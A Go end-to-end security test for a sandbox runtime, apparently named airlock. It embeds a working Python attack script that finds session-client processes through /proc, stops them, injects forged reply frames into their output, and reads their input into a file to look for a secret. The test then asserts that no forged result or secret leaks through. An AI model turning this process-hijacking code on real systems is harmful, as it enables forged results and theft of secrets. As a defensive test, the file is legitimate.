package e2e

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"airlock.dev/airlock/internal/podexec"
)

// attackFor is how long the attacker runs.
const attackFor = 90 * time.Second

// attackScript is hostile code in the sandbox doing what issue 26 describes to every session client the runtime
// execs (`airlock-init connect`, same uid): stop it, open its stdin and stdout through /proc before it makes
// itself undumpable, write forged answers (the old plaintext reply frame and a plaintext HTTP/2 preface) into
// the stream, read whatever it can of the gateway's side into /tmp/stolen, then let it go on or kill it.
const attackScript = `
import os, signal, time, errno
FORGED = (b'AIRLOCK1 64\n{"known":true,"done":true,"code":0,"trailer":{"v":1,"exit_code":0}}\n' +
          b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'R\x00\x00\x00\x10FORGED-OUTCOME!!')
seen, stats = set(), {"clients": 0, "stopped": 0, "fd1": 0, "fd0": 0, "stolen": 0, "forged": 0}
stolen = open("/tmp/stolen", "ab")
end = time.time() + float(os.environ.get("ATTACK_SECONDS", "90"))
n = 0
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in seen:
            continue
        try:
            cmd = open("/proc/%s/cmdline" % p, "rb").read()
        except OSError:
            continue
        if b"airlock-init" not in cmd or b"connect" not in cmd:
            continue
        seen.add(p)
        stats["clients"] += 1
        pid = int(p)
        try:
            os.kill(pid, signal.SIGSTOP); stats["stopped"] += 1
        except OSError:
            pass
        try:
            fd = os.open("/proc/%s/fd/1" % p, os.O_WRONLY | os.O_NONBLOCK); stats["fd1"] += 1
            try:
                os.write(fd, FORGED); stats["forged"] += 1
            except OSError:
                pass
        except OSError:
            pass
        try:
            fd = os.open("/proc/%s/fd/0" % p, os.O_RDONLY | os.O_NONBLOCK); stats["fd0"] += 1
            try:
                b = os.read(fd, 65536); stolen.write(b); stolen.flush(); stats["stolen"] += len(b)
            except OSError:
                pass
        except OSError:
            pass
        n += 1
        try:
            os.kill(pid, signal.SIGKILL if n % 2 else signal.SIGCONT)
        except OSError:
            pass
    with open("/tmp/attack.json.tmp", "w") as f:
        f.write(repr(stats))
    os.rename("/tmp/attack.json.tmp", "/tmp/attack.json")
    time.sleep(0.001)
`

// TestSessionHolderCannotForgeOrRead: a background process attacks every session client as it appears, while
// commands carrying a secret in their env run through the engine as the gateway runs them. No answer it forges
// becomes a result (every result is the command's own, or an error the caller sees as such), and nothing it
// reads from the stream holds the secret. Without TLS on the session (pid1link) the forged reply frame, written
// before the real one, would be read as exit 0. What it can do is deny its own sandbox sessions, as `kill -9 1`
// can end it: the exec'd client runs as the sandbox user, so this attacker, which wins the race for every client
// on this node, breaks every session opened while it runs (logged, not asserted).
func TestSessionHolderCannotForgeOrRead(t *testing.T) {
	ns := newTenant(t)
	createSandbox(t, ns, "attacked")
	waitReady(t, ns, "attacked")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	tgt, err := target(ctx, ns, "attacked")
	if err != nil {
		t.Fatal(err)
	}
	sh(t, ns, "attacked", "cat > /tmp/attack.py <<'PYEOF'\n"+attackScript+"\nPYEOF", 20*time.Second)
	bg := tgt
	bg.Argv = []string{"python3", "/tmp/attack.py"}
	bg.Env = map[string]string{"ATTACK_SECONDS": fmt.Sprint(int(attackFor.Seconds()))}
	attackStarted := time.Now()
	proc, err := engine.StartBackground(ctx, bg)
	if err != nil || proc.Trailer != nil {
		t.Fatalf("starting the attacker: %+v, %v", proc, err)
	}

	const secret = "s3cr3t-token-0f-the-task-7c1d"
	const rounds = 12
	honest, failed := 0, 0
	for i := range rounds {
		req := tgt
		req.Shell = fmt.Sprintf(`printf 'round %d %%s\n' "$(printf %%s "$TOKEN" | wc -c)"; exit 7`, i)
		req.Env = map[string]string{"TOKEN": secret}
		req.Timeout = 20 * time.Second
		res, err := engine.Run(ctx, req)
		switch {
		case err != nil || res.Outcome == podexec.OutcomeSandboxLost:
			failed++ // the attacker broke this session: the caller sees a failure, never a forged result
			t.Logf("round %d: %v %+v", i, err, res)
		case res.Outcome == podexec.OutcomeExited && res.ExitCode == 7 && res.Stdout == fmt.Sprintf("round %d %d\n", i, len(secret)):
			honest++
		default:
			t.Fatalf("round %d: a result that is not the command's own: %+v", i, res)
		}
	}
	// The attacker stops on its own (ATTACK_SECONDS): under its attack no new session could tell it to.
	deadline := attackStarted.Add(attackFor + 5*time.Second)
	time.Sleep(time.Until(deadline))
	stats := sh(t, ns, "attacked", "cat /tmp/attack.json; echo; wc -c < /tmp/stolen; grep -c -a -F '"+secret+"' /tmp/stolen || true", 20*time.Second)
	t.Logf("%d honest results, %d failed calls; attacker: %s", honest, failed, strings.TrimSpace(stats.Stdout))
	lines := strings.Split(strings.TrimSpace(stats.Stdout), "\n")
	if len(lines) < 3 || lines[len(lines)-1] != "0" {
		t.Fatalf("the secret was read from the stream: %q", stats.Stdout)
	}
	if !strings.Contains(lines[0], `'clients': `) || strings.Contains(lines[0], `'clients': 0,`) {
		t.Fatalf("the attacker saw no session client, so it tested nothing: %q", stats.Stdout)
	}
}
